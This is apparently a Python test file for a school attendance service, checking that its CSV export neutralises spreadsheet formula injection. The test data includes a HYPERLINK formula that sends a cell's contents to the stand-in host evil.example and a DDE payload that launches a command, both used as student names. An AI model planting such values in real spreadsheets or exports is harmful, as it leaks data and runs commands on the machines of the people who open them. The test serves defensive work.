"""Security hardening (issue 10) at the service level: safe CSV exports, Unicode check-in codes,
capped teacher text, cheap abuse throttled before PostgreSQL, login throttles that cannot lock a
victim out, a global cap on portal sign-ons, and deliverability that recovers.

The conversation paths (credentials deleted from the chat) are end to end in test_login_security.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

from dal.models import Attendance, AttendanceRecord, Role, UserSessionRedis
from dal.postgres import AsyncPostgresClient
from services.csv_export import safe_cell
from services.reports import ReportService
from tests.support import (
    IST,
    pg_client_fixture,  # noqa: F401
    redis_client_fixture,  # noqa: F401
    student_user,
    teacher_user,
)

NOW = datetime.now(UTC).replace(microsecond=0)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _session(user_number: str, role: Role, telegram_id: int = 1) -> UserSessionRedis:
    return UserSessionRedis(
        telegram_id=telegram_id,
        school_number=user_number,
        full_name="X",
        role=role,
        logged_in_at=NOW,
    )


# --- 6. exports are safe to open ----------------------------------------------------------


async def test_exported_formula_names_open_as_text(pg_client: AsyncPostgresClient) -> None:
    teacher = teacher_user()
    evil = [
        student_user("2024001", HYPERLINK),
        student_user("2024002", "+1+cmd|' /C calc'!A0"),
        student_user("2024003", "-2+3"),
        student_user("2024004", "@SUM(A1:A9)"),
        student_user("2024005", "\tTAB"),
        student_user("2024006", "\rCR"),
        student_user("2024007", "AYŞE YILDIZ"),
    ]
    await pg_client.add_users(users=[teacher, *evil])
    aid = uuid.uuid4()
    await pg_client.add_attendances(
        attendances=[
            Attendance(
                attendance_id=aid,
                teacher_school_number=teacher.user_school_number,
                lesson_name="=cmd",
                start_time=NOW - timedelta(hours=1),
                end_time=NOW,
            )
        ]
    )
    await pg_client.add_attendance_records(
        records=[
            AttendanceRecord(
                attendance_id=aid,
                student_number=s.user_school_number,
                is_attended=i % 2 == 0,
                attendance_time=NOW - timedelta(minutes=30) if i % 2 == 0 else None,
                fail_reason=None if i % 2 == 0 else "REJECTED: =1+1",
            )
            for i, s in enumerate(evil)
        ]
    )
    reports = ReportService(pg=pg_client, tz=IST)
    _, data = await reports.export_csv(
        teacher=_session(teacher.user_school_number, Role.TEACHER), attendance_id=aid
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["2024001"] == "'" + HYPERLINK  # opens as text, not as a link
    assert names["2024002"].startswith("'+")
    assert names["2024003"] == "'-2+3"
    assert names["2024004"] == "'@SUM(A1:A9)"
    assert names["2024005"] == "'\tTAB"
    assert names["2024006"] == "'\rCR"
    assert names["2024007"] == "AYŞE YILDIZ"  # ordinary text is untouched
    for row in rows[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_safe_cell_leaves_ordinary_values_alone() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(2024001) == "2024001"
    assert safe_cell("present") == "present"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("=") == "'="
